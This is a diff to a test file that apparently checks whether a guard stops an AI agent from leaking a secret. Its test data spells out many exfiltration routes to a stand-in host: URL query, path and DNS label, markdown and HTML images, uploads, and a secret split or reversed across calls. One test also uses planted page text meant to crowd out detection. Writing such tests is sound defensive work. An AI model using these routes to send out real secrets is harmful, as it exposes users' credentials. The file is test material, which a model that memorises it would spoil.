@@ -1,4 +1,4 @@
-"""A secret on its way out, in every form and in pieces: the plain send is stopped, and so are they."""
+"""A secret on its way out, plain, in every other form, and in pieces."""
 
 from __future__ import annotations
 
@@ -92,13 +92,17 @@ WAYS: dict[str, tuple[str, dict[str, Any]]] = {
     "image markdown, path": posted(f"![ok](https://{HOST}/{SECRET}/p.png)"),
     "link markdown, DNS label": posted(f"[ok](https://{SECRET}.{HOST}/)"),
     "HTML image": posted(f'<img src="https://{HOST}/p?d={SECRET}">'),
+    "content, with blanks": uploaded(f"https://{HOST}/in", "zq4 1har borl umen 558 0"),
+    "half of it, among 300 words": uploaded(
+        f"https://{HOST}/in", "all fine here " * 100 + SECRET[:11]
+    ),
     "among 300 words": uploaded(f"https://{HOST}/in", "all fine here " * 100 + SECRET),
 }
 
 
 @pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
 def test_a_secret_does_not_leave(way: tuple[str, dict[str, Any]]) -> None:
-    """evidence 6, secret in URL path, DNS label, file name, image markdown, array items; R37, R38."""
+    """evidence 6, secret in URL path, DNS label, file name, image markdown, array items; R37."""
     tool, arguments = way
     with_secret, without = agent().tries(tool, **arguments), harmless(tool)
     assert stopped(with_secret), said(with_secret)
@@ -130,7 +134,9 @@ SHAPES: dict[str, tuple[str, str, str]] = {
 
 
 @pytest.mark.parametrize(("text", "path", "secret"), SHAPES.values(), ids=SHAPES)
-@pytest.mark.parametrize("url", ["https://{host}/p?d={}", "https://{host}/{}/x", "https://{}.{host}/"])
+@pytest.mark.parametrize(
+    "url", ["https://{host}/p?d={}", "https://{host}/{}/x", "https://{}.{host}/"]
+)
 def test_secrets_of_every_shape(text: str, path: str, secret: str, url: str) -> None:
     """evidence 6: what a file assigns, quotes or says; in a query, a path, a host (R37)."""
     decision = agent(text, path).tries(FETCH, url=url.format(secret, host=HOST))
@@ -138,12 +144,14 @@ def test_secrets_of_every_shape(text: str, path: str, secret: str, url: str) -> 
 
 
 RUNS: dict[str, Sequence[tuple[str, dict[str, Any]]]] = {
-    "two halves": [fetched(f"https://{HOST}/p?d={part}") for part in ("zq41-har", "bor-lumen-5580")],
+    "two halves": [fetched(f"https://{HOST}/p?d={part}") for part in (SECRET[:8], SECRET[8:])],
     "in fours": [fetched(f"https://{HOST}/p?d={SECRET[i : i + 4]}") for i in range(0, 22, 4)],
     "in twos": [fetched(f"https://{HOST}/p?d={SECRET[i : i + 2]}") for i in range(0, 22, 2)],
     "backwards": [fetched(f"https://{HOST}/p?d={SECRET[i : i + 4]}") for i in range(20, -1, -4)],
     "in paths": [fetched(f"https://{HOST}/{SECRET[i : i + 4]}") for i in range(0, 22, 4)],
-    "in labels": [fetched(f"https://{SECRET[i : i + 4].strip('-')}.{HOST}/") for i in range(0, 22, 4)],
+    "in labels": [
+        fetched(f"https://{SECRET[i : i + 4].strip('-')}.{HOST}/") for i in range(0, 22, 4)
+    ],
     "in contents": [uploaded(f"https://{HOST}/in", SECRET[i : i + 4]) for i in range(0, 22, 4)],
 }  # fmt: skip
 
@@ -166,11 +174,13 @@ def test_a_secret_split_over_calls_does_not_leave_whole(
 
 
 def test_planted_text_does_not_crowd_out_the_secret() -> None:
-    """evidence 6, caps on work: what a page holds of the same address takes no room from a secret."""
+    """evidence 6, caps on work: a page that repeats the address hides nothing."""
     plain = agent().tries(FETCH, url=f"https://{HOST}/p?d={SECRET}")
     run = agent()
     parts = [HOST, f"https://{HOST}/p?d=", f"{HOST}/p", "stat-collect", "collect.example/p", "p?d"]
-    run.does(FETCH, parts * 5 + [f"see https://{HOST}/p?d= {i}" for i in range(50)], url="https://x")
+    run.does(
+        FETCH, parts * 5 + [f"see https://{HOST}/p?d= {i}" for i in range(50)], url="https://x"
+    )
     crowded = run.tries(FETCH, url=f"https://{HOST}/p?d={SECRET}")
     assert stopped(crowded), said(crowded)
     assert crowded.energy.total >= plain.energy.total - 1e-9, said(crowded)
